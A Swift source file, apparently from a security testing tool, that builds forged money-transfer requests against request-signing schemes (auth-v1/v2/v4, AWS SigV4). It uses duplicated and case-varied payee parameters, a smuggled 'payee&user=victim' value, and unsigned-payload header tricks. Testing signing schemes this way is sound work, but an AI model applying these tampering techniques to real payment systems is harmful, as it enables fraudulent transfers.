import CountersignSchemes
import CountersignSeal
import CountersignWire

/// Schemes in which the app signs with one key for all its users, and names the account in a parameter:
/// auth-v1, auth-v2, auth-v4 and sigv4. They have no login. Source: docs/protocol.md, their sections.
struct APIKeyAttackKit: SchemeAttackKit {
    private let scheme: RowProfile.APIKeyScheme
    private let context: SigningContext

    init(_ scheme: RowProfile.APIKeyScheme, context destination: SigningContext) {
        self.scheme = scheme
        self.context = destination
    }

    func login(in exchange: RawExchange) -> CapturedLogin? { nil }

    func token(in exchange: RawExchange) -> CapturedToken? { nil }

    func login(_ login: CapturedLogin, key: AppKey?) -> RawRequest? { nil }

    func login(name: String, password: String, key: AppKey) -> RawRequest? { nil }

    func token(from response: RawResponse) -> CapturedToken? { nil }

    func transfer(_ order: TransferOrder, token: CapturedToken?, key: AppKey?) -> RawRequest? {
        guard let key else { return nil }
        let form = RawRequest.transfer(form: order, namingThePayer: order.payer)
        switch scheme {
        case .authV1: return form.signed(with: AuthV1(), as: key.id, secret: key.secret, at: context)
        case .authV2: return form.signed(with: AuthV2(), as: key.id, secret: key.secret, at: context)
        case .sigV4: return form.signed(with: SigV4(), as: key.id, secret: key.secret, at: context)
        case .authV4:
            let json = RawRequest.transfer(json: order, namingThePayer: order.payer)
            return json.signed(with: AuthV4(), as: key.id, secret: key.secret, at: context)
        }
    }

    func restamped(_ request: RawRequest, at now: Int64) -> RawRequest? {
        var copy = request
        switch scheme {
        case .authV1, .authV2:
            guard request.parameters["auth_timestamp"] != nil else { return nil }
            copy.parameters["auth_timestamp"] = "\(now)"
        case .authV4:
            guard request.fields["X-Auth-Timestamp"] != nil else { return nil }
            copy.fields["X-Auth-Timestamp"] = "\(now)"
        case .sigV4:
            guard request.fields["X-Amz-Date"] != nil else { return nil }
            var text = ByteBuffer(capacity: 16)
            CivilTime(seconds: now).appendBasic(to: &text)
            copy.fields["X-Amz-Date"] = text.text
        }
        return copy
    }

    var ambiguities: [Ambiguity] {
        switch scheme {
        case .authV1: AuthAmbiguities.authV1
        case .authV2: AuthAmbiguities.authV2
        case .authV4: AuthAmbiguities.authV4
        case .sigV4: SigV4Ambiguities.all
        }
    }
}

/// The ambiguities of auth-v1, auth-v2 and auth-v4. Source: docs/protocol.md, their sections.
enum AuthAmbiguities {
    private static let joinV1 = UnescapedJoin { $0 == "auth_signature" }
    private static let joinV2 = UnescapedJoin { $0.hasPrefix("auth_") }

    static let authV1 = [
        ampersand(joinV1), joinV1.payeeInValue, besideQuery,
        Ambiguity(
            "key-case", sentence: "writes the payee's parameter twice, in two cases",
            apply: namesInOtherCase),
        twice,
    ]

    static let authV2 = [ampersand(joinV2), joinV2.payeeInValue, besideQuery, twice]

    static let authV4 = [
        Ambiguity("member-twice", sentence: "writes the payee's member twice", apply: membersTwice),
        Ambiguity(
            "key-case", sentence: "writes the payee's member twice, in two cases", apply: membersInOtherCase),
    ]

    private static let twice = Ambiguity("parameter-twice", sentence: "writes the payee's parameter twice") {
        request, order in
        payeeTwice(request, order: order, names: ["to"])
    }

    private static let besideQuery = Ambiguity(
        "body-beside-query",
        sentence: "moves what is signed to the query, and puts a body of its own beside it",
        apply: bodyBesideQuery)

    /// The app signs any payee that its user types: here one that contains the victim's name, and `v=` that
    /// takes up the text which the app appends.
    private static func ampersand(_ join: UnescapedJoin) -> Ambiguity {
        Ambiguity(
            "ampersand-in-value",
            sentence: "has its own app sign a payee that holds the victim's name, and reads it as parameters",
            source: .ownTransfer { order, _ in "\(order.payee)&user=\(order.payer)&v=" }
        ) { request, _ in
            guard let form = join.reparsed(request.parameters) else { return [] }
            return [request.with(form)]
        }
    }

    private static func namesInOtherCase(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        payeeTwice(request, order: order, names: ["TO", "To"])
    }

    /// The genuine payee under each of the names and the attacker's under `to`, and the reverse, in both
    /// orders.
    private static func payeeTwice(_ request: RawRequest, order: TransferOrder, names: [String])
        -> [RawRequest]
    {
        guard let payee = request.parameters["to"] else { return [] }
        let rest = request.parameters.pairs.filter { $0.name != "to" }
        var requests: [RawRequest] = []
        for name in names {
            for (first, second) in [("to", name), (name, "to")] {
                let other = RawForm.Pair(name: first, value: order.payee)
                let genuine = RawForm.Pair(name: second, value: payee)
                requests.append(request.with(RawForm([other, genuine] + rest)))
                requests.append(request.with(RawForm([genuine, other] + rest)))
            }
        }
        return requests
    }

    private static func bodyBesideQuery(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        var bare = request
        bare.queryForm = request.parameters
        var form = bare
        let own = RawRequest.transfer(form: order, namingThePayer: order.payer)
        form.bodyForm = own.bodyForm
        let json = RawRequest.transfer(json: order, namingThePayer: order.payer)
        var members = bare
        members.fields["Content-Type"] = "application/json"
        members.body = json.body
        return [form, members]
    }

    private static func membersTwice(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        payeeMemberTwice(request, order: order, names: ["to"])
    }

    private static func membersInOtherCase(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        payeeMemberTwice(request, order: order, names: ["TO", "To"])
    }

    static func payeeMemberTwice(_ request: RawRequest, order: TransferOrder, names: [String]) -> [RawRequest]
    {
        guard let members = request.members, let payee = members["to"] else { return [] }
        let rest = members.members.filter { $0.name != "to" }
        let text = JSONValue.string(order.payee).text
        var requests: [RawRequest] = []
        for name in names {
            for (first, second) in [("to", name), (name, "to")] {
                let other = RawMembers.Member(name: first, value: text)
                let genuine = RawMembers.Member(name: second, value: payee)
                requests.append(request.with(RawMembers([other, genuine] + rest)))
                requests.append(request.with(RawMembers([genuine, other] + rest)))
            }
        }
        return requests
    }
}

/// The ambiguities of AWS Signature Version 4: parameters are sorted, and only the listed fields are signed.
enum SigV4Ambiguities {
    static let all = [
        Ambiguity(
            "type-unsigned",
            sentence: "says that the signed body is something else, and puts parameters into the query"
        ) {
            request, order in
            var copy = request
            copy.fields["Content-Type"] = "text/plain"
            copy.queryForm =
                RawRequest.transfer(form: order, namingThePayer: order.payer).bodyForm ?? RawForm([])
            return [copy]
        },
        Ambiguity(
            "field-in-two-lines", sentence: "sends fields that are signed twice, with other values behind",
            apply: fieldTwice),
        Ambiguity(
            "payload-unsigned", sentence: "says that the body is not signed, and changes it",
            apply: unsignedPayload),
    ]

    private static func fieldTwice(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        var copy = request.paying(order.payee)
        copy.fields.lines.append(.init(name: "X-Amz-Content-Sha256", value: "UNSIGNED-PAYLOAD"))
        return [copy]
    }

    private static func unsignedPayload(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        var (said, left) = (request.paying(order.payee), request.paying(order.payee))
        said.fields["X-Amz-Content-Sha256"] = "UNSIGNED-PAYLOAD"
        left.fields["X-Amz-Content-Sha256"] = nil
        return [said, left]
    }
}
